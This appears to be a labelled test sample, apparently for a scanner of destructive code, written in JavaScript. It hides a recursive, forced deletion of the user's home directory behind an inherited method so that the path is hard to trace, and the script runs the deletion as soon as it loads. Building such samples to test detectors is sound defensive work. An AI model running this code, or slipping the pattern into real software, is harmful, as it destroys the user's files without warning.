// evasion: the path comes from a method the class inherits, called on this (no super, no override)
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
class Base {
  root() {
    return os.homedir();
  }
}
class Janitor extends Base {
  sweep() {
    fs.rmSync(this.root(), { recursive: true, force: true });
  }
}
new Janitor().sweep();
